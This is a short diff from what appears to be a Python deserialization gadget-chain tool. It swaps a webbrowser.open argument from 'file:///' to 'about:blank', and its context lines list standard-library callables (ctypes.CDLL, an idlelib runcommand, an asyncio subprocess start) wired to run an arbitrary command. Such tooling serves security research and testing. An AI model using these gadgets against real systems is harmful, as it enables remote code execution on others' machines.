@@ -81,7 +81,7 @@ def gadgets(command: str) -> dict[str, Call]:
             "idlelib.pyshell.ModifiedInterpreter.runcommand", None, code
         ),
         "lib2to3.pgen2.grammar.Grammar.loads": _call("lib2to3.pgen2.grammar.Grammar.loads", None, code),
-        "webbrowser.open": _call("webbrowser.open", "file:///"),
+        "webbrowser.open": _call("webbrowser.open", "about:blank"),
         "ctypes.CDLL": _call("ctypes.CDLL", command),
         "asyncio.unix_events._UnixSubprocessTransport._start": _call(
             "asyncio.unix_events._UnixSubprocessTransport._start", {}, command, True, None, None, None, 0
